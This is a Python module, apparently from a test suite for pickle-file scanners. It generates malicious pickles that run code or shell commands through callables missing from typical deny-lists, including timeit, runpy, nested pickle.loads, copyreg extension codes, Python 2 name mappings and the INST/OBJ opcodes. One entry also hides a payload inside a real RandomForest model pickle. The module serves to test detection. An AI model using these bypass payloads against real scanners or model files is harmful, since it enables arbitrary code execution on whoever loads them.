"""Class 4 — convert/deny-list gaps.

Callables that run code or commands but are missing from typical deny-lists (``timeit``,
``cProfile.run``, ``pydoc.pipepager``, ``numpy.testing.measure``, ``runpy._run_code``,
``code.InteractiveInterpreter.runsource`` (an unbound method called on an instance the
pickle builds), a pickle that ``pickle.loads`` an inner pickle, ``builtins.exec`` reached
through a copyreg extension code (``EXT1``: no GLOBAL names it), Python 2 names that the
unpickler maps (``__builtin__``, ``commands``), resolvers that return ``os.system``
(``pkgutil.resolve_name``, ``pydoc.locate``, ``operator.methodcaller`` on
``importlib.import_module('os')``), and the other call opcodes (INST, OBJ). Two controls
(plain ``os.system`` and ``builtins.exec``) calibrate the peers. Loader: pickle.load.
"""

from __future__ import annotations

from pathlib import Path

from . import PICKLE, Entry, base, pk

S = pk.s
G = pk.sglob
C = pk.call


def inner_pickle() -> bytes:
    return pk.whole(pk.system(), 2)


def instance(module: str, cls: str, *args: bytes) -> bytes:
    return C(G(module, cls), *args)


#: variant -> (note, pickle body leaving one value on the stack, protocol)
VARIANTS: dict[str, tuple[str, bytes, int]] = {
    "control-os.system": ("control: plain os.system", pk.system(), 4),
    "control-builtins.exec": ("control: plain builtins.exec", C(G("builtins", "exec"),
                                                                S(pk.PY)), 4),
    "timeit.timeit": ("timeit.timeit(stmt, 'pass', time.perf_counter, 1)",
                      C(G("timeit", "timeit"), S(pk.PY), S("pass"),
                        G("time", "perf_counter"), pk.binint(1)), 4),
    "cProfile.run": ("cProfile.run(statement)", C(G("cProfile", "run"), S(pk.PY)), 4),
    "profile.run": ("profile.run(statement)", C(G("profile", "run"), S(pk.PY)), 4),
    "pydoc.pipepager": ("pydoc.pipepager(text, cmd): a shell pipe",
                        C(G("pydoc", "pipepager"), S(""), S(pk.SH)), 4),
    "pydoc.tempfilepager": ("pydoc.tempfilepager(text, cmd): os.system",
                            C(G("pydoc", "tempfilepager"), S(""), S(pk.SH)), 4),
    "pickle.loads-inner": ("pickle.loads of an inner os.system pickle (bytes argument)",
                           C(G("pickle", "loads"), pk.binbytes(inner_pickle())), 4),
    "_pickle.loads-inner": ("_pickle.loads (the C module) of an inner pickle",
                            C(G("_pickle", "loads"), pk.binbytes(inner_pickle())), 4),
    "pickle._loads-inner": ("pickle._loads (the pure-Python unpickler) of an inner pickle",
                            C(G("pickle", "_loads"), pk.binbytes(inner_pickle())), 4),
    "numpy.testing.measure": ("numpy.testing.measure(code_str): compiles and execs it",
                              C(G("numpy.testing", "measure"), S(pk.PY)), 4),
    "numpy.testing.runstring": ("numpy.testing._private.utils.runstring(code, {})",
                                C(G("numpy.testing._private.utils", "runstring"), S(pk.PY),
                                  pk.EMPTY_DICT), 4),
    "code.InteractiveInterpreter.runsource": (
        "unbound code.InteractiveInterpreter.runsource on a fresh instance",
        C(G("code", "InteractiveInterpreter.runsource"),
          instance("code", "InteractiveInterpreter"), S(pk.PY)), 4),
    "code.InteractiveConsole.push": (
        "unbound code.InteractiveConsole.push on a fresh instance",
        C(G("code", "InteractiveConsole.push"), instance("code", "InteractiveConsole"),
          S(pk.PY)), 4),
    "runpy._run_code": ("runpy._run_code(code_string, {})",
                        C(G("runpy", "_run_code"), S(pk.PY), pk.EMPTY_DICT), 4),
    "copyreg-ext-builtins.exec": (
        "copyreg.add_extension('builtins', 'exec', 200) then EXT1 200: no GLOBAL names exec",
        C(G("copyreg", "add_extension"), S("builtins"), S("exec"), pk.binint(200)) + pk.POP
        + b"\x82" + bytes([200]) + S(pk.PY) + pk.TUPLE1 + pk.REDUCE, 4),
    "doctest.run_docstring_examples": (
        "doctest.run_docstring_examples('>>> code', {}): a str is its own docstring",
        C(G("doctest", "run_docstring_examples"), S(">>> " + pk.PY + "\n"), pk.EMPTY_DICT),
        4),
    "trace.Trace.runctx": (
        "unbound trace.Trace.runctx(Trace(), code, {}, {})",
        C(G("trace", "Trace.runctx"), instance("trace", "Trace"), S(pk.PY), pk.EMPTY_DICT,
          pk.EMPTY_DICT), 4),
    "posix.system": ("posix.system: the C module behind os", pk.system("posix", "system"), 4),
    "subprocess.getoutput": ("subprocess.getoutput(cmd) (shell)",
                             pk.system("subprocess", "getoutput"), 4),
    "subprocess.getstatusoutput": ("subprocess.getstatusoutput(cmd) (shell)",
                                   pk.system("subprocess", "getstatusoutput"), 4),
    "os.popen": ("os.popen(cmd)", pk.system("os", "popen"), 4),
    "torch.utils.collect_env.run": ("torch.utils.collect_env.run(cmd): Popen(shell=True)",
                                    pk.system("torch.utils.collect_env", "run"), 4),
    "methodcaller-on-import_module": (
        "operator.methodcaller('system', cmd)(importlib.import_module('os'))",
        C(C(G("operator", "methodcaller"), S("system"), S(pk.SH)),
          C(G("importlib", "import_module"), S("os"))), 4),
    "_operator.attrgetter-on-import_module": (
        "_operator.attrgetter('system')(importlib.import_module('os'))(cmd)",
        C(C(C(G("_operator", "attrgetter"), S("system")),
            C(G("importlib", "import_module"), S("os"))), S(pk.SH)), 4),
    "pkgutil.resolve_name": ("pkgutil.resolve_name('os:system')(cmd)",
                             C(C(G("pkgutil", "resolve_name"), S("os:system")), S(pk.SH)), 4),
    "pydoc.locate": ("pydoc.locate('os.system')(cmd)",
                     C(C(G("pydoc", "locate"), S("os.system")), S(pk.SH)), 4),
    "getattr-import_module": ("builtins.getattr(importlib.import_module('os'), 'system')",
                              C(C(G("builtins", "getattr"),
                                  C(G("importlib", "import_module"), S("os")), S("system")),
                                S(pk.SH)), 4),
    "py2-__builtin__.exec": ("Python 2 name: GLOBAL '__builtin__ exec' under PROTO 2 is mapped "
                             "to builtins.exec", C(pk.glob0("__builtin__", "exec"),
                                                   pk.binunicode(pk.PY), protocol=2), 2),
    "py2-commands.getoutput": ("Python 2 name: GLOBAL 'commands getoutput' under PROTO 2 is "
                               "subprocess.getoutput",
                               C(pk.glob0("commands", "getoutput"), pk.binunicode(pk.SH),
                                 protocol=2), 2),
    "INST-opcode": ("protocol 0 INST opcode: MARK arg INST 'os system' (no GLOBAL, no REDUCE)",
                    pk.MARK + pk.v0(pk.SH) + b"ios\nsystem\n", 0),
    "OBJ-opcode": ("OBJ opcode: MARK GLOBAL arg OBJ (no REDUCE)",
                   pk.MARK + pk.glob0("os", "system") + pk.v0(pk.SH) + pk.OBJ, 0),
    "os.spawnlp": ("os.spawnlp(P_WAIT, 'sh', 'sh', '-c', cmd)",
                   C(G("os", "spawnlp"), pk.binint(0), S("sh"), S("sh"), S("-c"), S(pk.SH)),
                   4),
}


def entries() -> list[Entry]:
    out = []
    quick = {"control-os.system", "timeit.timeit", "copyreg-ext-builtins.exec",
             "pydoc.pipepager", "INST-opcode", "runpy._run_code"}
    for variant, (note, body, protocol) in VARIANTS.items():
        def make(p: Path, body=body, protocol=protocol) -> None:
            base.write(p, pk.whole(body, protocol))

        out.append(Entry("4-gaps", variant, f"4-gaps/{variant}.pkl", make, PICKLE, note,
                         quick=variant in quick,
                         tags=["control"] if variant.startswith("control") else []))

    def in_model(p: Path) -> None:
        # a gap callable spliced into a real RandomForest pickle, at the end
        base.write(p, pk.inject(base.sk_pickle("rf"), VARIANTS["timeit.timeit"][1], at="end"))

    out.append(Entry("4-gaps", "timeit.timeit-in-RandomForest", "4-gaps/rf-timeit.pkl",
                     in_model, PICKLE, "timeit.timeit at the end of a real RandomForest "
                     "pickle"))
    return out
